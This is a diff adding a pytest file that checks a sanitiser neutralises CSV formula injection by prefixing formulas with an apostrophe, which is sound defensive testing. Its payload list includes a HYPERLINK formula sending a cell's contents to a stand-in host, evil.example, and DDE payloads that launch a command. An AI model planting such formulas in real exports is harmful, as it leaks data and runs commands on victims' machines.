@@ -1,0 +1,73 @@
+"""CSV: what somebody else wrote is never a formula, and a number is never text."""
+
+import csv
+import io
+
+import pytest
+
+from analytics.render import to_csv
+from analytics.tables import Table
+from recorder.csv_cells import inert
+from recorder.output import print_rows
+
+# OWASP's list of first characters (CSV Injection), and payloads that are in circulation.
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "＝1+1",  # noqa: RUF001
+    "-",
+    "x\r=1+1",
+    "--x",
+]
+KEPT = [0, -1, -2.5, 1e-9, float("-inf"), True, "-3", "-0.25", "+1e6", "desk/log-triage", "a=b", "", "x - y"]
+
+
+def expected(text):
+    """A formula as a cell; one behind a carriage return is inert as long as that begins no row."""
+    return text if text.startswith("x") else f"'{text}"
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_becomes_text(text):
+    """It gets an apostrophe in front; nothing of it is lost."""
+    assert inert(text) == expected(text)
+
+
+@pytest.mark.parametrize("value", KEPT)
+def test_other_values_stay(value):
+    """Numbers, also as text, and texts that no spreadsheet runs."""
+    assert str(inert(value)) == str(value)
+
+
+def test_every_command_that_prints_csv_keeps_to_it():
+    """Both writers: rows of a command, and a table of the analysis; what is missing is empty."""
+    out = io.StringIO()
+    rows = [{"name": text, "number": -1.5, "none": None} for text in FORMULAS]
+    print_rows(rows, ("name", "number", "none"), "csv", out)
+    table = Table(name="t", title="", keys=("name",), columns=("name", "number", "none"), rows=tuple(rows), notes=())
+    for text in (out.getvalue(), to_csv(table)):
+        head, *found = csv.reader(io.StringIO(text, newline=""))
+        assert head == ["name", "number", "none"]
+        assert found == [[expected(text), "-1.5", ""] for text in FORMULAS]
+
+
+def test_only_these_write_csv():
+    """No other module of ours that prints uses the library's writer: desk's files are tasks, and are as they are."""
+    from pathlib import Path
+
+    root = Path(__file__).parents[2]
+    own = {
+        path.relative_to(root).as_posix()
+        for folder in ("recorder", "analytics")
+        for path in (root / folder).rglob("*.py")
+        if "csv.writer" in path.read_text(encoding="utf-8") or "DictWriter" in path.read_text(encoding="utf-8")
+    }
+    assert own == {"recorder/csv_cells.py"}
